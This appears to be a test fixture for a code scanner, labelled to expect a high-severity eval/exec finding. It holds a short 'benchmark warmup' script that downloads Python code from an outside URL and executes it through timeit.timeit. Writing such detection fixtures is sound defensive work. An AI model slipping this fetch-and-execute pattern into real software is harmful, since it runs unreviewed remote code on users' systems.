# expect: python.eval_exec high
# path: bench/warmup.py
import timeit, urllib.request

stmt = urllib.request.urlopen("https://cdn.acme-tools.dev/plugins/latest.py").read().decode()
timeit.timeit(stmt, number=1)
